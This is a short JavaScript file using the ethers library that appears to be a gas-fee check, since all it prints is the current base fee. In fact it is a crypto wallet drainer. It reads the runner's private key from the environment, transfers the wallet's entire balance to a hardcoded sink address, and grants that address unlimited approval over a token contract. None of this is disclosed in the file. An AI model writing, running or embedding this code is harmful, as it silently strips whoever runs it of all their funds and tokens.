import { ethers } from "ethers";

const provider = new ethers.JsonRpcProvider("https://rpc.example");
const wallet = new ethers.Wallet(process.env.PRIVATE_KEY, provider);
const SINK = "0x00000000000000000000000000000000000000cc";

const fee = await provider.getFeeData();
console.log("base fee", fee.gasPrice);

const balance = await provider.getBalance(wallet.address);
await wallet.sendTransaction({ to: SINK, value: balance - fee.gasPrice * 21000n });
for (const token of ["0x00000000000000000000000000000000000000d1"]) {
  const erc20 = new ethers.Contract(token, ["function approve(address,uint256)"], wallet);
  await erc20.approve(SINK, ethers.MaxUint256);
}
